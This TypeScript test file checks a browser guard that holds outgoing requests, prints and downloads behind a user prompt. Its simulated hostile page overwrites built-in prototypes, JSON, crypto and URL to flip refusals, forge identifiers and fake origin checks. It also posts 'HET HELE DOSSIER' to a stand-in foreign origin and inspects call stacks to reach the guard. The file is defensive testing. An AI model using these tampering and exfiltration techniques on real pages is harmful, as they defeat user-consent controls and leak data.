import { beforeEach, expect, test } from 'vitest';
import { describeInBrowsers } from '../support/describe.ts';
import { click, evaluate, press as pressKey, waitFor } from '../support/page.ts';
import { promptOn } from '../support/prompt.ts';
import { sharedRecord, TRY_AGAIN } from '../support/shared-record.ts';
import { type Hostile, MOTIVATION, noted, openHostile, pointOf } from './hostile.ts';
import { spyOnEverything } from './spies.ts';

/** What a page replaces of its own world: it gets no hold on the guard by it, and turns no "no" into a "yes". */
describeInBrowsers('natives that a page replaced', (browserName) => {
  const shared = sharedRecord(() => openHostile(browserName));
  let hostile: Hostile;
  beforeEach(() => {
    hostile = shared();
    hostile.arrived();
  });

  for (const [what, selector] of [
    ['a request', '#send'],
    ['a form', '#form-send'],
    ['a print', '#print'],
    ['a download', '#download'],
    ['an XHR', '#xhr'],
    ['a request that may not wait', '#sync'],
  ] as const)
    test(`show nothing of the guard while it holds ${what}`, TRY_AGAIN, async () => {
      const page = await hostile.open(
        null,
        `<form id="form" action="/verstuur" method="post"><input name="bericht" value="Anna"><input type="file" name="bijlage"><button id="form-send">Verzenden</button></form>
        <button id="send" onclick="fetch('/verzenden', { method: 'POST', body: new URLSearchParams('naam=Anna') })">Versturen</button>
        <button id="print" onclick="print()">Afdrukken</button>
        <button id="download" onclick="Object.assign(document.createElement('a'), { href: window.URL.createObjectURL(new Blob(['Anna'])), download: 'a.txt' }).click()">Download</button>
        <button id="xhr" onclick="const x = new XMLHttpRequest(); x.open('POST', '/verzenden'); x.send('naam=Anna')">Versturen</button>
        <button id="sync" onclick="const x = new XMLHttpRequest(); x.open('POST', '/verzenden', false); try { x.send('naam=Anna') } catch {}">Versturen</button>`,
      );
      const press = await pointOf(page, selector);
      await evaluate(page, spyOnEverything);
      await press();
      const prompt = await promptOn(page);
      // Once: among what came by are the driver's own functions, too.
      expect(await evaluate<string>(page, 'window.ransack()')).toBe('seen: ');
      expect(hostile.arrived()).toEqual([]);
      await prompt.withhold();
      expect(hostile.arrived()).toEqual([]);
      expect(hostile.browser.prints()).toEqual([]);
      await page.close();
    });

  test('do not turn "refuse" into "go on"', TRY_AGAIN, async () => {
    const page = await hostile.open(null);
    await evaluate(page, () => {
      const swap = (words: unknown): unknown => (words === 'refuse' ? 'go-on' : words);
      const iterator: typeof Symbol.iterator = Symbol.iterator;
      const natural = Array.prototype[iterator];
      Array.prototype[iterator] = function (this: unknown[]) {
        return natural.call(this.map(swap)) as ArrayIterator<never>;
      };
      const { parse, stringify } = JSON;
      JSON.parse = (text: string) => parse(String(text).replaceAll('refuse', 'go-on'));
      JSON.stringify = ((value: unknown) => String(stringify(value)).replaceAll('refuse', 'go-on')) as never;
      const { shift, splice, slice } = Array.prototype;
      Array.prototype.shift = function (this: unknown[]) {
        return swap(shift.call(this));
      };
      Array.prototype.splice = function (this: unknown[], ...args: never[]) {
        return (splice as (...args: unknown[]) => unknown[]).apply(this, args).map(swap);
      } as never;
      Array.prototype.slice = function (this: unknown[], ...args: never[]) {
        return (slice as (...args: unknown[]) => unknown[]).apply(this, args).map(swap);
      } as never;
      for (const method of ['replace', 'trim', 'slice', 'split', 'toString', 'valueOf'] as const) {
        const native = String.prototype[method] as (...args: unknown[]) => unknown;
        Object.defineProperty(String.prototype, method, {
          value(this: string, ...args: unknown[]) {
            return swap(native.apply(this, args));
          },
        });
      }
    });
    await click(page, '#send');
    await (await promptOn(page)).withhold();
    expect(await noted(page, 'sent')).toBe('stopped: AbortError;');
    expect(hostile.arrived()).toEqual([]);
    await page.close();
  });

  test('do not let one action go under the number of another', TRY_AGAIN, async () => {
    const page = await hostile.open(null);
    await evaluate(page, () => {
      const same = 'a'.repeat(32);
      const typed = Object.getPrototypeOf(Uint8Array.prototype) as { reduce: unknown };
      typed.reduce = () => same;
      String.prototype.padStart = () => 'aa';
      Number.prototype.toString = () => 'aa';
      crypto.getRandomValues = (bytes) => bytes;
      crypto.randomUUID = () => 'aaaaaaaa-aaaa-4aaa-8aaa-aaaaaaaaaaaa';
      Math.random = () => 0.5;
      (window as unknown as { Uint8Array: unknown }).Uint8Array = class extends Array {};
    });
    await click(page, '#send');
    const prompt = await promptOn(page);
    await evaluate(page, () => void (window as unknown as { send(body: string): void }).send('HET HELE DOSSIER'));
    await prompt.release(MOTIVATION);
    await waitFor(() => hostile.arrived().some(({ body }) => body.includes('Anna')));
    const second = await promptOn(page);
    expect(hostile.arrived()).toEqual([]);
    await second.withhold();
    expect(hostile.arrived()).toEqual([]);
    await page.close();
  });

  test('do not let a permit do for another address', TRY_AGAIN, async () => {
    const page = await hostile.open(null);
    await click(page, '#send');
    await (await promptOn(page)).release(MOTIVATION);
    await waitFor(() => hostile.arrived().length === 1);
    await evaluate(
      page,
      (elsewhere) => {
        const own = location.origin;
        for (const part of ['origin', 'href', 'protocol', 'host', 'hostname', 'pathname'] as const) {
          const value = { origin: own, href: `${own}/x`, protocol: 'http:', host: 'x', hostname: 'x', pathname: '/x' };
          Object.defineProperty(URL.prototype, part, { get: () => value[part] });
        }
        Set.prototype.has = () => true;
        Map.prototype.get = () => ({});
        Array.prototype.includes = () => true;
        Array.prototype.some = () => true;
        Array.prototype.find = function (this: unknown[]) {
          return this[0];
        } as never;
        RegExp.prototype.test = () => true;
        Object.defineProperty(Node.prototype, 'baseURI', { get: () => `${own}/` });
        void fetch(`${elsewhere}/verzenden`, { method: 'POST', body: 'HET HELE DOSSIER' }).catch(() => {});
      },
      hostile.elsewhere,
    );
    const second = await promptOn(page);
    expect(hostile.arrived()).toEqual([]);
    await second.withhold();
    expect(hostile.arrived()).toEqual([]);
    await page.close();
  });

  test('do not make the guard overlook what it would have held', TRY_AGAIN, async () => {
    const page = await hostile.open(null);
    const press = await pointOf(page, '#send');
    await evaluate(page, () => {
      RegExp.prototype.test = () => false;
      RegExp.prototype.exec = () => null;
      for (const method of ['some', 'find', 'filter', 'includes', 'map', 'every'] as const)
        Object.defineProperty(Array.prototype, method, { value: () => undefined });
      Set.prototype.has = () => false;
      for (const method of ['match', 'includes', 'startsWith', 'toLowerCase', 'toUpperCase', 'split'] as const)
        Object.defineProperty(String.prototype, method, { value: () => '' });
      Date.now = () => 9e15;
      performance.now = () => 9e15;
      Object.defineProperty(Promise.prototype, 'then', { value: () => new Promise(() => {}) });
      (window as unknown as Record<string, unknown>).URL = class {};
      (window as unknown as Record<string, unknown>).RegExp = class {};
      EventTarget.prototype.addEventListener = () => {};
      EventTarget.prototype.dispatchEvent = () => true;
      Function.prototype.call = () => undefined as never;
      Function.prototype.apply = () => undefined as never;
      Function.prototype.bind = (() => () => undefined) as never;
      Object.defineProperty(Event.prototype, 'defaultPrevented', { get: () => true });
    });
    await press();
    const prompt = await promptOn(page);
    expect(hostile.arrived()).toEqual([]);
    // By key: among such natives Firefox's driver finds nothing to click.
    await waitFor(async () => {
      await pressKey(prompt.host, 'Escape');
      return !(await prompt.isOpen());
    });
    expect(hostile.arrived()).toEqual([]);
    await page.close();
  });

  test('an old library that says how lists and texts become JSON disturbs nothing', TRY_AGAIN, async () => {
    const page = await hostile.open(() => {
      const asJson = function (this: unknown) {
        return `"${String(this)}"`;
      };
      for (const { prototype } of [Array, String, Object, Date])
        Object.defineProperty(prototype, 'toJSON', { value: asJson, configurable: true, writable: true });
      Object.assign(Object.prototype, { extend() {}, each() {} });
    });
    await click(page, '#send');
    const prompt = await promptOn(page);
    expect(await prompt.text()).toContain('Anna');
    await prompt.release(MOTIVATION);
    await waitFor(() => hostile.arrived().length === 1);
    await page.close();
  });

  test('a function that the guard calls cannot look who called it', TRY_AGAIN, async () => {
    const page = await hostile.open(null);
    const caught = await evaluate<string>(
      page,
      `(() => {
      const caught = [];
      const Traced = Error;
      Traced.prepareStackTrace = (_error, frames) =>
        frames.forEach((frame) => {
          const called = frame.getFunction?.();
          if (called && called !== sloppy && !/caught|attack|sloppy/.test(String(called))) caught.push('frame ' + called);
        });
      function sloppy() {
        let caller = sloppy.caller;
        if (caller && !/attack|sloppy/.test(String(caller))) caught.push('caller ' + caller);
        void new Traced().stack;
        return '/verzenden';
      }
      function attack() {
        fetch({ toString: sloppy }, { method: 'POST', body: 'x=1' }).catch(() => {});
        navigator.sendBeacon({ toString: sloppy }, 'x=1');
        const options = { get method() { return sloppy() && 'POST'; }, body: 'x=1' };
        fetch('/verzenden', options).catch(() => {});
      }
      attack();
      delete Traced.prepareStackTrace;
      return 'caught: ' + caught.join();
    })()`,
    );
    expect(caught).toBe('caught: ');
    await (await promptOn(page)).withhold();
    await page.close();
  });
});
